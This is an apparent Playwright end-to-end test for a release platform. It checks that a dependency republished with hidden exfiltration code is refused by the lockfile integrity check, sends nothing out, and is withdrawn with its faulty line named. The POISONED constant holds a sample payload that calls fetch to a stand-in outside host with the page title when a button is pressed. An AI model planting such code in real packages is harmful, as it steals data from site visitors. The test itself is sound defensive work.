import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openFolderReleases } from '@serafim/release-store/releases/open-releases';
import { repository } from '@serafim/server-kit/process/repository';
import type { Browser } from 'playwright/test';
import { runCommand, runNode } from 'tools/new-remote/run-command';
import { withOwnSite } from '../site/own-site.ts';
import type { RunningSite } from '../site/running-site.ts';
import { linkSite, makeTeamKey, writeElsewhere } from '../site/team-elsewhere.ts';
import { expect, test } from '../site/test.ts';

const ELSEWHERE = 'https://coleta.exemplo';

const GOOD = 'export const onPress = action => action;';

/** Sends what it finds to a stranger as soon as a visitor presses the button. */
const POISONED = `export const onPress = action => async () => {
  action();
  await fetch('${ELSEWHERE}/?' + document.title);
};`;

const PAGE = `import { Button } from '@serafim/ui';
import { onPress } from 'contador';
import { useState } from 'react';

export default function VizinhoPage() {
  const [visits, setVisits] = useState(0);
  return <div><h1>Vizinho</h1><Button onClick={onPress(() => setVisits(visits + 1))}>Visitas: {visits}</Button></div>;
}
`;

let folder: string;

test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'serafim-poisoned-'));
});
test.afterAll(() => rm(folder, { recursive: true, force: true }));

const npm = (...args: string[]) =>
  runCommand(folder, 'npm', [...args, '--offline', '--ignore-scripts', '--no-audit', '--no-fund']);

/** Publishes the dependency, as its owner or as somebody who took its account over. */
async function publish(version: string, code: string): Promise<void> {
  const source = join(folder, 'contador');
  await mkdir(source, { recursive: true });
  const manifest = { name: 'contador', version, type: 'module', exports: './index.js' };
  await writeFile(join(source, 'package.json'), JSON.stringify(manifest));
  await writeFile(join(source, 'index.js'), code);
  const packed = await npm('pack', './contador');
  expect(packed.code, packed.output).toBe(0);
}

const requireVersion = (version: string) =>
  writeFile(
    join(folder, 'package.json'),
    JSON.stringify({
      ...{ name: 'remote-vizinho', version: '1.0.0', type: 'module', author: 'time vizinho' },
      dependencies: { contador: `file:contador-${version}.tgz` },
    }),
  );

/** Opens the page as a visitor of a network of its own, and presses its button. @returns what was sent elsewhere */
async function visit(browser: Browser, { url }: RunningSite, network: number): Promise<string[]> {
  const context = await browser.newContext({
    extraHTTPHeaders: { 'x-forwarded-for': `198.18.${network}.1` },
  });
  const page = await context.newPage();
  const sent: string[] = [];
  page.on('requestfinished', request => {
    if (request.url().startsWith(ELSEWHERE)) sent.push(request.url());
  });
  await page.goto(`${url}/Vizinho`);
  await page.getByRole('button', { name: 'Visitas: 0' }).click();
  await page.getByRole('button', { name: 'Visitas: 1' }).waitFor();
  await page.goto('about:blank');
  await context.close();
  return sent;
}

test('a poisoned dependency is refused where it was replaced, sends nothing, and is withdrawn with its line named', async ({
  browser,
}) => {
  test.slow();
  await withOwnSite(async site => {
    await writeElsewhere(folder, 'vizinho', PAGE);
    const { spki, settings } = await makeTeamKey(folder, site.dataFolder);
    const cli = 'node_modules/@serafim/release/src/cli.ts';
    const releases = (...args: string[]) => runNode(folder, cli, args, settings);

    await publish('1.0.0', GOOD);
    await requireVersion('1.0.0');
    expect((await npm('install')).code).toBe(0);
    await linkSite(folder);
    const enrolled = await runNode(
      repository,
      'platform/release/src/cli.ts',
      ['enrol', 'time vizinho', 'vizinho', spki],
      { DATA_DIR: site.dataFolder },
    );
    expect(enrolled.code, enrolled.output).toBe(0);
    const first = await releases('release', '--skip-browser');
    expect(first.code, first.output).toBe(0);

    // Replaced under the same version, it is not what the lockfile names; a machine that had the good one would still take that.
    await publish('1.0.0', POISONED);
    const refused = await npm('ci', '--cache', join(folder, 'cache-of-another-machine'));
    expect(refused.code).toBe(1);
    expect(refused.output).toContain('EINTEGRITY');

    // As a new version, a team takes it without knowing. It waits for a press, so that the gate sees nothing.
    await publish('1.0.1', POISONED);
    await requireVersion('1.0.1');
    const updated = await npm('install');
    expect(updated.code, updated.output).toBe(0);
    await linkSite(folder);
    const released = await releases('release', '--traffic', '50');
    expect(released.code, released.output).toBe(0);

    const store = openFolderReleases(site.dataFolder);
    const notes = async () => (await store.registry.history('vizinho')).map(({ note }) => note ?? '');
    const isWithdrawn = async () => (await notes()).some(note => note.startsWith('Retirada'));
    for (let network = 1; network <= 60 && !(await isWithdrawn()); network += 1)
      expect(await visit(browser, site, network)).toEqual([]);
    await expect.poll(isWithdrawn, { timeout: 30_000 }).toBe(true);
    await store.close();

    const told = await releases('errors', 'vizinho');
    expect(told.output).toMatch(/TypeError \(.*\) in 1\.0\.0-\w+, not live: \d+ visits/);
    expect(told.output).toContain('at node_modules/contador/index.js:3');
  });
});
